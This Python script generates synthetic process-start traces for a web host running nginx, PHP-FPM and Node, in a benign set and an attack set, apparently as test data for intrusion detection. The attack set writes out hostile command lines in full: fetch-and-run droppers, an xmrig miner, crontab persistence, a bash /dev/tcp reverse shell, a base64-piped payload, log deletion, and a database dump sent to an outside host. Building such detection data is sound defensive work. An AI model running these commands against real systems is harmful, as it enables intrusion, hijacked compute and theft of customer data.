#!/usr/bin/env python3
"""Writes samples/process/webhost-benign.jsonl and webhost-attack.jsonl: invented process-start
traces (Vigil process JSON) of one Ubuntu web host running nginx, PHP-FPM (a WordPress shop) and a
Node API. Deterministic: run it again and the files come out the same."""
import datetime
import json
import os
import shlex

OUT = os.path.join(os.path.dirname(__file__), "..", "samples", "process")
HOST = "web1.hollowoak.example"


class Trace:
    def __init__(self, start, next_pid):
        self.t = start
        self.pid = next_pid
        self.rows = []
        self.procs = {}

    def spawn(self, ppid, exe, cmd, user="root", cwd="/", dt=1.0, argv=False, parent_fields=False, pid=None, **extra):
        self.t += datetime.timedelta(seconds=dt)
        if pid is None:
            self.pid += 1 + (self.pid % 7 == 0)
            pid = self.pid
        ev = {"time": self.t.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (self.t.microsecond // 1000),
              "host": HOST, "pid": pid, "ppid": ppid, "exe": exe}
        if argv:
            ev["argv"] = shlex.split(cmd)
        else:
            ev["cmdline"] = cmd
        if parent_fields and ppid in self.procs:
            ev["parent_exe"], ev["parent_cmdline"] = self.procs[ppid]
        ev["user"] = user
        ev["cwd"] = cwd
        ev.update(extra)
        self.procs[pid] = (exe, cmd)
        self.rows.append(ev)
        return pid

    def write(self, name):
        with open(os.path.join(OUT, name), "w", encoding="utf-8") as f:
            for r in self.rows:
                f.write(json.dumps(r) + "\n")


def boot(tr):
    """Long-running services: seen first so that the tree knows them."""
    s = {}
    s["systemd"] = tr.spawn(0, "/usr/lib/systemd/systemd", "/sbin/init splash", pid=1, dt=0)
    s["cron"] = tr.spawn(1, "/usr/sbin/cron", "/usr/sbin/cron -f -P", pid=688, dt=0.1)
    s["sshd"] = tr.spawn(1, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups", pid=702, dt=0.1)
    s["nginx"] = tr.spawn(1, "/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;", pid=811, dt=0.1)
    s["fpm"] = tr.spawn(1, "/usr/sbin/php-fpm8.1", "php-fpm: master process (/etc/php/8.1/fpm/php-fpm.conf)", pid=905, dt=0.1)
    s["pool"] = tr.spawn(905, "/usr/sbin/php-fpm8.1", "php-fpm: pool www", user="www-data", pid=912, dt=0.1)
    s["api"] = tr.spawn(1, "/usr/bin/node", "/usr/bin/node /srv/shop-api/server.js", user="shopapi", cwd="/srv/shop-api", pid=1040, dt=0.1)
    return s


def benign():
    tr = Trace(datetime.datetime(2026, 11, 20, 2, 59, 58, tzinfo=datetime.timezone.utc), 20000)
    s = boot(tr)
    # hourly cron
    sh = tr.spawn(s["cron"], "/usr/bin/dash", "/bin/sh -c '   cd / && run-parts --report /etc/cron.hourly'", dt=2)
    tr.spawn(sh, "/usr/bin/run-parts", "run-parts --report /etc/cron.hourly", dt=0.01)
    # WordPress cron every 5 minutes, run by cron as www-data with the PHP CLI
    for i in range(3):
        sh = tr.spawn(s["cron"], "/usr/bin/dash", "/bin/sh -c 'php /var/www/shop/wp-cron.php >/dev/null 2>&1'", user="www-data", dt=300 if i else 60)
        tr.spawn(sh, "/usr/bin/php8.1", "php /var/www/shop/wp-cron.php", user="www-data", cwd="/var/www", dt=0.01)
        # health check of the API from a cron job
        sh = tr.spawn(s["cron"], "/usr/bin/dash", "/bin/sh -c 'curl -fsS -m 5 http://127.0.0.1:3000/health > /dev/null || systemctl restart shop-api'", user="root", dt=0.5)
        tr.spawn(sh, "/usr/bin/curl", "curl -fsS -m 5 http://127.0.0.1:3000/health", dt=0.01, argv=True)
    # WooCommerce order mail: PHP's mail() runs sendmail through sh
    sh = tr.spawn(s["pool"], "/usr/bin/dash", "sh -c '/usr/sbin/sendmail -t -i'", user="www-data", cwd="/var/www/shop", dt=37, parent_fields=True)
    tr.spawn(sh, "/usr/sbin/sendmail", "/usr/sbin/sendmail -t -i", user="www-data", cwd="/var/www/shop", dt=0.01)
    # daily logrotate from the systemd timer
    lr = tr.spawn(1, "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", dt=420)
    for f in ["/var/log/nginx/access.log.1", "/var/log/nginx/error.log.1", "/var/log/php8.1-fpm.log.1", "/var/log/syslog.1"]:
        tr.spawn(lr, "/usr/bin/gzip", "/bin/gzip " + f, dt=0.2, argv=True)
    sh = tr.spawn(lr, "/usr/bin/dash", "sh -c 'if [ -f /var/run/nginx.pid ]; then invoke-rc.d nginx rotate >/dev/null 2>&1; fi' logrotate_script /var/log/nginx/*.log", dt=0.1)
    ir = tr.spawn(sh, "/usr/sbin/invoke-rc.d", "/bin/sh /usr/sbin/invoke-rc.d nginx rotate", dt=0.01)
    tr.spawn(ir, "/usr/bin/systemctl", "systemctl --quiet is-enabled nginx.service", dt=0.01)
    tr.spawn(ir, "/usr/sbin/start-stop-daemon", "start-stop-daemon --stop --signal USR1 --quiet --pidfile /run/nginx.pid --name nginx", dt=0.01)
    sh = tr.spawn(lr, "/usr/bin/dash", "sh -c '/usr/lib/php/php8.1-fpm-reopenlogs' logrotate_script /var/log/php8.1-fpm.log", dt=0.1)
    tr.spawn(sh, "/usr/lib/php/php8.1-fpm-reopenlogs", "/bin/sh /usr/lib/php/php8.1-fpm-reopenlogs", dt=0.01)
    # unattended upgrades
    uu = tr.spawn(1, "/usr/bin/python3.10", "/usr/bin/python3 /usr/bin/unattended-upgrade", dt=900)
    tr.spawn(uu, "/usr/bin/dpkg", "/usr/bin/dpkg --print-foreign-architectures", dt=0.3)
    ag = tr.spawn(uu, "/usr/bin/apt-get", "/usr/bin/apt-get -qq update", dt=1)
    for m in ["http", "http", "gpgv", "store"]:
        tr.spawn(ag, "/usr/lib/apt/methods/" + m, "/usr/lib/apt/methods/" + m, user="_apt", dt=0.2)
    dp = tr.spawn(uu, "/usr/bin/dpkg", "/usr/bin/dpkg --status-fd 10 --no-triggers --unpack --auto-deconfigure /var/cache/apt/archives/openssl_3.0.2-0ubuntu1.18_amd64.deb /var/cache/apt/archives/libssl3_3.0.2-0ubuntu1.18_amd64.deb", dt=4)
    tr.spawn(dp, "/usr/bin/dpkg-deb", "dpkg-deb --fsys-tarfile /var/cache/apt/archives/openssl_3.0.2-0ubuntu1.18_amd64.deb", dt=0.1)
    tr.spawn(dp, "/usr/bin/dpkg-deb", "dpkg-deb --fsys-tarfile /var/cache/apt/archives/libssl3_3.0.2-0ubuntu1.18_amd64.deb", dt=0.4)
    dp = tr.spawn(uu, "/usr/bin/dpkg", "/usr/bin/dpkg --status-fd 10 --configure --pending", dt=2)
    sh = tr.spawn(dp, "/usr/bin/dash", "/bin/sh /var/lib/dpkg/info/libssl3:amd64.postinst configure 3.0.2-0ubuntu1.17", dt=0.2)
    tr.spawn(sh, "/usr/bin/deb-systemd-invoke", "/usr/bin/perl /usr/bin/deb-systemd-invoke restart nginx.service php8.1-fpm.service", dt=0.1)
    tr.spawn(dp, "/usr/bin/ldconfig", "/sbin/ldconfig", dt=0.5)
    tr.spawn(dp, "/usr/bin/mandb", "/usr/bin/mandb --quiet", user="man", dt=0.2)
    # php-fpm restarted by the upgrade: a new master and pool
    fpm2 = tr.spawn(1, "/usr/sbin/php-fpm8.1", "php-fpm: master process (/etc/php/8.1/fpm/php-fpm.conf)", dt=1)
    tr.spawn(fpm2, "/usr/lib/php/php-fpm-socket-helper", "/usr/lib/php/php-fpm-socket-helper install /run/php/php-fpm.sock /etc/php/8.1/fpm/pool.d/www.conf 81", dt=0.05)
    pool2 = tr.spawn(fpm2, "/usr/sbin/php-fpm8.1", "php-fpm: pool www", user="www-data", dt=0.05)
    tr.spawn(fpm2, "/usr/sbin/php-fpm8.1", "php-fpm: pool www", user="www-data", dt=0.01)
    tr.spawn(1, "/usr/sbin/nginx", "/usr/sbin/nginx -t -q -g 'daemon on; master_process on;'", dt=0.5)
    tr.spawn(1, "/usr/sbin/nginx", "/usr/sbin/nginx -g 'daemon on; master_process on;' -s reload", dt=0.1)
    # WordPress thumbnails through ImageMagick from the pool
    tr.spawn(pool2, "/usr/bin/convert-im6.q16", "convert /var/www/shop/wp-content/uploads/2026/11/beans-1.jpg -resize 300x300 /var/www/shop/wp-content/uploads/2026/11/beans-1-300x300.jpg", user="www-data", cwd="/var/www/shop/wp-admin", dt=600)
    # a deploy over SSH: git pull, composer, npm build, restart of the API
    ssh = tr.spawn(s["sshd"], "/usr/sbin/sshd", "sshd: deploy [priv]", dt=1200)
    ssh2 = tr.spawn(ssh, "/usr/sbin/sshd", "sshd: deploy@pts/0", user="deploy", dt=0.3)
    bash = tr.spawn(ssh2, "/usr/bin/bash", "-bash", user="deploy", cwd="/home/deploy", dt=0.2)
    for c in ["/usr/bin/id -gn", "/usr/bin/dircolors -b", "/usr/bin/lesspipe", "/usr/bin/basename /usr/bin/lesspipe", "/usr/bin/dirname /usr/bin/lesspipe"]:
        tr.spawn(bash, c.split()[0], c, user="deploy", cwd="/home/deploy", dt=0.01)
    cwd = "/var/www/shop"
    g = tr.spawn(bash, "/usr/bin/git", "git -C /var/www/shop fetch --prune origin", user="deploy", cwd=cwd, dt=6, argv=True)
    tr.spawn(g, "/usr/lib/git-core/git-remote-https", "/usr/lib/git-core/git-remote-https origin https://git.hollowoak.example/shop/site.git", user="deploy", cwd=cwd, dt=0.05)
    tr.spawn(g, "/usr/lib/git-core/git", "/usr/lib/git-core/git index-pack --stdin --fix-thin --keep=fetch-pack 4242 on web1", user="deploy", cwd=cwd, dt=0.8)
    tr.spawn(bash, "/usr/bin/git", "git -C /var/www/shop status --porcelain", user="deploy", cwd=cwd, dt=2, argv=True)
    tr.spawn(bash, "/usr/bin/git", "git -C /var/www/shop merge --ff-only origin/main", user="deploy", cwd=cwd, dt=2, argv=True)
    comp = tr.spawn(bash, "/usr/bin/php8.1", "php /usr/local/bin/composer install --no-dev --optimize-autoloader --no-interaction", user="deploy", cwd=cwd, dt=3)
    tr.spawn(comp, "/usr/bin/git", "git --version", user="deploy", cwd=cwd, dt=0.2)
    tr.spawn(comp, "/usr/bin/unzip", "unzip -qq /home/deploy/.cache/composer/files/stripe/stripe-php/9c1e2a.zip -d /var/www/shop/vendor/composer/tmp-1a2b3c", user="deploy", cwd=cwd, dt=1)
    tr.spawn(comp, "/usr/bin/php8.1", "php /var/www/shop/vendor/bin/wp rewrite flush", user="deploy", cwd=cwd, dt=2)
    cwd = "/srv/shop-api"
    tr.spawn(bash, "/usr/bin/git", "git -C /srv/shop-api pull --ff-only", user="deploy", cwd=cwd, dt=20, argv=True)
    npm = tr.spawn(bash, "/usr/bin/node", "npm ci --omit=dev", user="deploy", cwd=cwd, dt=2)
    tr.spawn(npm, "/usr/bin/dash", "sh -c node install.js", user="deploy", cwd=cwd + "/node_modules/esbuild", dt=8)
    tr.spawn(tr.pid, "/usr/bin/node", "node install.js", user="deploy", cwd=cwd + "/node_modules/esbuild", dt=0.01)
    b = tr.spawn(bash, "/usr/bin/node", "npm run build", user="deploy", cwd=cwd, dt=10)
    sh = tr.spawn(b, "/usr/bin/dash", "sh -c 'tsc -p tsconfig.json && esbuild src/index.ts --bundle --platform=node --outfile=dist/server.js'", user="deploy", cwd=cwd, dt=0.3)
    tr.spawn(sh, "/usr/bin/node", "node /srv/shop-api/node_modules/.bin/tsc -p tsconfig.json", user="deploy", cwd=cwd, dt=0.01)
    tr.spawn(sh, "/srv/shop-api/node_modules/@esbuild/linux-x64/bin/esbuild", "esbuild src/index.ts --bundle --platform=node --outfile=dist/server.js", user="deploy", cwd=cwd, dt=6)
    su = tr.spawn(bash, "/usr/bin/sudo", "sudo systemctl restart shop-api", user="deploy", cwd=cwd, dt=4)
    tr.spawn(su, "/usr/bin/systemctl", "systemctl restart shop-api", cwd=cwd, dt=0.1)
    api = tr.spawn(1, "/usr/bin/node", "/usr/bin/node /srv/shop-api/dist/server.js", user="shopapi", cwd="/srv/shop-api", dt=0.6)
    su = tr.spawn(bash, "/usr/bin/sudo", "sudo systemctl reload php8.1-fpm", user="deploy", cwd=cwd, dt=3)
    tr.spawn(su, "/usr/bin/systemctl", "systemctl reload php8.1-fpm", cwd=cwd, dt=0.1)
    tr.spawn(bash, "/usr/bin/curl", "curl -s -o /dev/null -w %{http_code} https://shop.hollowoak.example/", user="deploy", cwd=cwd, dt=5, argv=True)
    tr.spawn(bash, "/usr/bin/tail", "tail -n 50 /var/log/nginx/error.log", user="deploy", cwd=cwd, dt=4)
    tr.spawn(bash, "/usr/bin/ls", "ls -la /var/www/shop/wp-content/uploads", user="deploy", cwd=cwd, dt=6)
    tr.spawn(bash, "/usr/bin/df", "df -h", user="deploy", cwd=cwd, dt=3)
    tr.spawn(bash, "/usr/bin/ps", "ps aux --sort=-%mem", user="deploy", cwd=cwd, dt=3)
    # the API's own child: image optimisation through a worker
    tr.spawn(api, "/usr/bin/node", "/usr/bin/node /srv/shop-api/dist/workers/resize.js", user="shopapi", cwd="/srv/shop-api", dt=40)
    # certbot renewal from its timer
    cb = tr.spawn(1, "/usr/bin/python3.10", "/usr/bin/python3 /usr/bin/certbot -q renew --no-random-sleep-on-renew", dt=300)
    sh = tr.spawn(cb, "/usr/bin/dash", "/bin/sh -c 'systemctl reload nginx'", dt=5)
    tr.spawn(sh, "/usr/bin/systemctl", "systemctl reload nginx", dt=0.01)
    # backups and monitoring from cron
    for i in range(2):
        sh = tr.spawn(s["cron"], "/usr/bin/dash", "/bin/sh -c '/usr/local/bin/backup-db.sh >> /var/log/backup.log 2>&1'", dt=600)
        bk = tr.spawn(sh, "/usr/bin/bash", "/bin/bash /usr/local/bin/backup-db.sh", dt=0.01)
        tr.spawn(bk, "/usr/bin/date", "date +%F-%H%M", dt=0.01)
        md = tr.spawn(bk, "/usr/bin/mysqldump", "mysqldump --defaults-file=/root/.my.cnf --single-transaction shop", dt=0.05)
        tr.spawn(bk, "/usr/bin/gzip", "gzip -c", dt=0.01)
        tr.spawn(bk, "/usr/bin/find", "find /var/backups/db -name *.sql.gz -mtime +14 -delete", dt=9, argv=True)
        tr.spawn(bk, "/usr/bin/rclone", "rclone copy /var/backups/db remote:hollowoak-backups/db --quiet", dt=1)
        sh = tr.spawn(s["cron"], "/usr/bin/dash", "/bin/sh -c '/usr/lib/sysstat/debian-sa1 1 1'", dt=30)
        tr.spawn(sh, "/usr/lib/sysstat/sadc", "/usr/lib/sysstat/sadc -F -L -S DISK 1 1 /var/log/sysstat", dt=0.01)
    # the monitoring agent's checks
    for c in ["/usr/lib/nagios/plugins/check_http -H 127.0.0.1 -u /wp-login.php -e 200",
              "/usr/lib/nagios/plugins/check_disk -w 20% -c 10% -p /",
              "/usr/lib/nagios/plugins/check_procs -w 250 -c 400",
              "/usr/lib/nagios/plugins/check_load -w 4,3,2 -c 8,6,4"]:
        tr.spawn(1, c.split()[0], c, user="nagios", dt=15)
    # a sysadmin session: looking around, editing config, reloading
    ssh = tr.spawn(s["sshd"], "/usr/sbin/sshd", "sshd: alice [priv]", dt=400)
    ssh2 = tr.spawn(ssh, "/usr/sbin/sshd", "sshd: alice@pts/1", user="alice", dt=0.3)
    bash = tr.spawn(ssh2, "/usr/bin/bash", "-bash", user="alice", cwd="/home/alice", dt=0.2)
    for c, u, cw in [("sudo -i", "alice", "/home/alice"), ("uptime", "alice", "/home/alice"), ("free -m", "alice", "/home/alice"),
                     ("systemctl status nginx --no-pager", "alice", "/home/alice"),
                     ("journalctl -u php8.1-fpm --since -1h --no-pager", "alice", "/home/alice"),
                     ("less /var/log/nginx/access.log", "alice", "/home/alice"),
                     ("grep -c wp-login.php /var/log/nginx/access.log", "alice", "/home/alice"),
                     ("sudo vim /etc/nginx/sites-available/shop", "alice", "/home/alice"),
                     ("sudo nginx -t", "alice", "/home/alice"), ("sudo systemctl reload nginx", "alice", "/home/alice"),
                     ("htop", "alice", "/home/alice"), ("du -sh /var/www/shop/wp-content/uploads", "alice", "/home/alice"),
                     ("tar czf /home/alice/uploads-2026-11.tgz -C /var/www/shop/wp-content uploads/2026/11", "alice", "/home/alice")]:
        tr.spawn(bash, "/usr/bin/" + c.split()[0], c, user=u, cwd=cw, dt=8)
    # more order mails and a PDF invoice rendered by a PHP plugin through wkhtmltopdf
    for i in range(3):
        sh = tr.spawn(pool2, "/usr/bin/dash", "sh -c '/usr/sbin/sendmail -t -i'", user="www-data", cwd="/var/www/shop", dt=120, parent_fields=True)
        tr.spawn(sh, "/usr/sbin/sendmail", "/usr/sbin/sendmail -t -i", user="www-data", cwd="/var/www/shop", dt=0.01)
        sd = tr.spawn(1, "/usr/sbin/postdrop", "postdrop -r", user="www-data", dt=0.05)
    tr.spawn(pool2, "/usr/local/bin/wkhtmltopdf", "/usr/local/bin/wkhtmltopdf --quiet /tmp/wc-invoice-8812.html /tmp/wc-invoice-8812.pdf", user="www-data", cwd="/var/www/shop", dt=20)
    tr.write("webhost-benign.jsonl")
    return len(tr.rows)


def attack():
    tr = Trace(datetime.datetime(2026, 11, 21, 3, 14, 0, tzinfo=datetime.timezone.utc), 31000)
    s = boot(tr)
    www = dict(user="www-data", cwd="/var/www/shop/wp-content/uploads/2026/11")
    # normal background
    sh = tr.spawn(s["cron"], "/usr/bin/dash", "/bin/sh -c 'php /var/www/shop/wp-cron.php >/dev/null 2>&1'", user="www-data", dt=30)
    tr.spawn(sh, "/usr/bin/php8.1", "php /var/www/shop/wp-cron.php", user="www-data", cwd="/var/www", dt=0.01)
    # the web shell (uploaded through a vulnerable plugin) runs commands through sh
    for c in ["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /var/www/shop", "cat /var/www/shop/wp-config.php", "ps aux", "netstat -tlnp"]:
        sh = tr.spawn(s["pool"], "/usr/bin/dash", "sh -c '%s'" % c, dt=7, **www)
        tr.spawn(sh, "/usr/bin/" + c.split()[0], c, dt=0.01, argv=True, **www)
    # download a dropper to /tmp, make it executable, run it
    sh = tr.spawn(s["pool"], "/usr/bin/dash", "sh -c 'curl -s -o /tmp/.x http://203.0.113.200/x.sh; chmod +x /tmp/.x; /tmp/.x'", dt=20, **www)
    tr.spawn(sh, "/usr/bin/curl", "curl -s -o /tmp/.x http://203.0.113.200/x.sh", dt=0.01, argv=True, **www)
    tr.spawn(sh, "/usr/bin/chmod", "chmod +x /tmp/.x", dt=0.6, **www)
    x = tr.spawn(sh, "/tmp/.x", "/bin/sh /tmp/.x", dt=0.01, **www)
    tr.spawn(x, "/usr/bin/uname", "uname -m", dt=0.01, **www)
    tr.spawn(x, "/usr/bin/wget", "wget -q -O /tmp/.cache/xmrig http://203.0.113.200/xmrig-6.21.0-linux-x64", dt=0.1, argv=True, **www)
    tr.spawn(x, "/usr/bin/chmod", "chmod 755 /tmp/.cache/xmrig", dt=2, **www)
    tr.spawn(x, "/usr/bin/nohup", "nohup /tmp/.cache/xmrig -o stratum+tcp://pool.supportxmr.example:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p web1 --donate-level 1 -B", dt=0.2, **www)
    tr.spawn(x, "/tmp/.cache/xmrig", "/tmp/.cache/xmrig -o stratum+tcp://pool.supportxmr.example:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p web1 --donate-level 1 -B", dt=0.01, **www)
    # persistence through the web user's crontab
    sh = tr.spawn(s["pool"], "/usr/bin/dash", "sh -c '(crontab -l 2>/dev/null; echo \"*/5 * * * * curl -fsSL http://203.0.113.200/x.sh | sh\") | crontab -'", dt=30, **www)
    tr.spawn(sh, "/usr/bin/crontab", "crontab -l", dt=0.01, **www)
    tr.spawn(sh, "/usr/bin/crontab", "crontab -", dt=0.01, **www)
    # a health check in between: must stay quiet
    sh = tr.spawn(s["cron"], "/usr/bin/dash", "/bin/sh -c 'curl -fsS -m 5 http://127.0.0.1:3000/health > /dev/null || systemctl restart shop-api'", dt=10)
    tr.spawn(sh, "/usr/bin/curl", "curl -fsS -m 5 http://127.0.0.1:3000/health", dt=0.01, argv=True)
    # a bash reverse shell
    sh = tr.spawn(s["pool"], "/usr/bin/dash", "sh -c 'bash -c \"bash -i >& /dev/tcp/203.0.113.200/4444 0>&1\"'", dt=40, **www)
    b = tr.spawn(sh, "/usr/bin/bash", "bash -c 'bash -i >& /dev/tcp/203.0.113.200/4444 0>&1'", dt=0.01, **www)
    rs = tr.spawn(b, "/usr/bin/bash", "bash -i", dt=0.01, **www)
    tr.spawn(rs, "/usr/bin/python3.10", "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", dt=5, **www)
    ptyb = tr.spawn(tr.pid, "/usr/bin/bash", "/bin/bash", dt=0.01, **www)
    tr.spawn(ptyb, "/usr/bin/find", "find / -perm -4000 -type f -o -perm -2000 -type f", dt=4, **www)
    tr.spawn(ptyb, "/usr/bin/sudo", "sudo -l", dt=6, **www)
    tr.spawn(ptyb, "/usr/bin/wget", "wget -q http://203.0.113.200/linpeas.sh -O /dev/shm/lp.sh", dt=8, **www)
    tr.spawn(ptyb, "/usr/bin/bash", "bash /dev/shm/lp.sh -a", dt=1, **www)
    # staged payload: base64 decoded and piped to a shell
    payload = "Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjIwMC9rLnNoIHwgc2g="  # curl -s http://203.0.113.200/k.sh | sh
    sh = tr.spawn(s["pool"], "/usr/bin/dash", "sh -c 'echo %s | base64 -d | sh'" % payload, dt=60, **www)
    tr.spawn(sh, "/usr/bin/echo", "echo " + payload, dt=0.01, **www)
    tr.spawn(sh, "/usr/bin/base64", "base64 -d", dt=0.01, **www)
    s2 = tr.spawn(sh, "/usr/bin/dash", "sh", dt=0.01, **www)
    tr.spawn(s2, "/usr/bin/curl", "curl -s http://203.0.113.200/k.sh", dt=0.01, **www)
    s3 = tr.spawn(s2, "/usr/bin/dash", "sh", dt=0.01, **www)
    tr.spawn(s3, "/usr/bin/pkill", "pkill -f kdevtmpfsi", dt=0.3, **www)
    tr.spawn(s3, "/usr/bin/rm", "rm -f /var/log/nginx/access.log.1", dt=0.3, **www)
    # data theft: the database dumped and sent out
    sh = tr.spawn(s["pool"], "/usr/bin/dash", "sh -c 'mysqldump -u wp -pS3cr3t shop | gzip | curl -s -T - http://203.0.113.200/up/db.gz'", dt=90, **www)
    tr.spawn(sh, "/usr/bin/mysqldump", "mysqldump -u wp -pS3cr3t shop", dt=0.01, **www)
    tr.spawn(sh, "/usr/bin/gzip", "gzip", dt=0.01, **www)
    tr.spawn(sh, "/usr/bin/curl", "curl -s -T - http://203.0.113.200/up/db.gz", dt=0.01, argv=True, **www)
    tr.write("webhost-attack.jsonl")
    return len(tr.rows)


if __name__ == "__main__":
    os.makedirs(OUT, exist_ok=True)
    print("benign", benign())
    print("attack", attack())
